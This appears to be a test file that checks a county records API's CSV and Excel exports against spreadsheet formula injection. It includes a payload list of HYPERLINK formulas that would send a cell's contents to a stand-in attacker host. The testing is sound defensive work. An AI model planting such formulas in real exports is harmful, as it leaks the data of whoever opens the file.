import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openApiCounty, type ApiCounty } from '../support/api-county.ts'
import { readCsv } from '../support/csv-reader.ts'
import { pullPoisoned } from '../support/poisoned-exports.ts'

const START = ['=', '+', '-', '@', '\t=', '\r=', '＝', ' =', '\u200b=', "'=", '|', '%']
const FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"x")'
const PAYLOADS = START.map((start) => `${start}${FORMULA}`)

let county: ApiCounty
beforeAll(async () => {
  county = await openApiCounty({ pulls: 1 })
  await pullPoisoned(county, PAYLOADS)
})
afterAll(() => county.close())

const CSV = [
  '/api/subjects?duty=file&unit=01',
  '/api/subjects?duty=talk&unit=01',
  '/api/incidents?unit=01',
  '/api/rejects?unit=01',
  '/api/runs?unit=01',
  '/api/summary?unit=01',
  '/api/duties',
]

describe('a text that a spreadsheet would run', () => {
  it('is in what was pulled', async () => {
    const { rows } = (await (await county.api.request('/api/rejects?unit=01&limit=1000')).json()) as { rows: unknown[] }
    expect(JSON.stringify(rows)).toContain('HYPERLINK')
  })

  it.each(CSV)('is a text in the CSV of %s', async (path) => {
    const response = await county.api.request(`${path}${path.includes('?') ? '&' : '?'}format=csv`)
    expect(response.status).toBe(200)
    for (const row of readCsv((await response.text()).replace(/^\ufeff/, '')))
      for (const cell of row) if (!/^-?[\d.]+$/.test(cell)) expect(cell).not.toMatch(/^[\s\u200b]*[=+\-@＝＋－＠\t\r]/)
  })

  it.each([
    '/api/todo?unit=01&format=xlsx',
    '/api/send-back?unit=01&file=%E6%91%B8%E5%BA%95%E8%8A%B1%E5%90%8D%E5%86%8C.csv',
    '/api/send-back?unit=01&file=%E5%84%BF%E7%AB%A5%E6%A1%A3%E6%A1%88.csv',
  ])('is a text in the workbook of %s, and no cell of it is a formula or a link elsewhere', async (path) => {
    const response = await county.api.request(path)
    expect(response.status).toBe(200)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await response.arrayBuffer())
    let cells = 0
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          cells++
          expect([cell.address, cell.formula, cell.type === ExcelJS.ValueType.Formula]).toEqual([
            cell.address,
            undefined,
            false,
          ])
          // The list of faults leads to their cells, within the workbook.
          if (cell.hyperlink !== undefined) expect(cell.hyperlink).toMatch(/^#'[^'!]*'![A-Z]+\d+$/)
        }),
      ),
    )
    expect(cells).toBeGreaterThan(10)
  })
})
